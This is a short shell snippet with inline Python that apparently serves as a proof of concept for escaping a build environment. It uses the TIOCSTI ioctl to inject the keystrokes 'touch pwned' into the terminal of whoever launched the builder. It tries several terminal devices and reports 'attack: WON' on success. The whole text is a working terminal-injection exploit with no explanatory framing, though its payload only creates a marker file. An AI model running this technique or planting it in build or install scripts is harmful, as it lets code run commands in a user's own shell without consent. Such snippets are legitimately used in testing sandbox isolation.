# Type a command into the terminal of whoever started the builder.
python3 - <<'P'
import fcntl, os, termios
for name in ("/dev/tty", "/proc/self/fd/0", "/proc/self/fd/1", "/dev/console"):
    try:
        fd = os.open(name, os.O_RDWR)
        for char in "touch pwned\n":
            fcntl.ioctl(fd, termios.TIOCSTI, char.encode())
        print("attack: WON: typed into", name)
    except OSError as err:
        print(name, err)
P
